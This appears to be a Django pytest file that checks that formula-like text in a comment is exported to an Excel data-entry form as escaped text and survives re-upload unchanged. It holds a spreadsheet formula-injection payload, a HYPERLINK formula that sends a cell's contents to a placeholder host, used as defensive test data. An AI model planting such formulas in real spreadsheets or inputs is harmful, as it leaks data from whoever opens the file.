"""Text a user typed that looks like a formula comes back in the data-entry form as text,
and uploading that form again leaves it as it was stored."""

import io
from decimal import Decimal

import pytest

from tiendo.data.models import DataValue
from tiendo.data.services import ValueInput, datavalues_save
from tiendo.exchange.services import upload_import
from tiendo.exchange.template import FIRST_ROW, template_build
from tiendo.exchange.tests.conftest import workbook
from tiendo.indicators.models import DataElement
from tiendo.lib.periods import parse_period

pytestmark = pytest.mark.django_db
LEAK = '=HYPERLINK("http://x?leak="&A1)'


def test_a_formula_in_a_comment_comes_back_as_text_in_the_form(area, lao_dong):
    datavalues_save(values=[ValueInput(
        element=DataElement.objects.get(code="jobs_created"), org_unit=area["can_duoc"],
        period=parse_period("2024"), value=Decimal(1500), comment=LEAK)], actor="test")
    data = template_build(data_set=lao_dong, unit=area["can_duoc"], period=parse_period("2024"))
    sheet = workbook(data)["Data"]
    row = next(row for row in range(FIRST_ROW, sheet.max_row + 1)
               if sheet.cell(row=row, column=1).value == "jobs_created")
    comment = sheet.cell(row=row, column=7)
    assert (comment.column_letter, comment.data_type, comment.value) == ("G", "s", "'" + LEAK)
    upload_import(stream=io.BytesIO(data), filename="form.xlsx", user=None, actor="test",
                  store=True)
    assert DataValue.objects.get().comment == LEAK
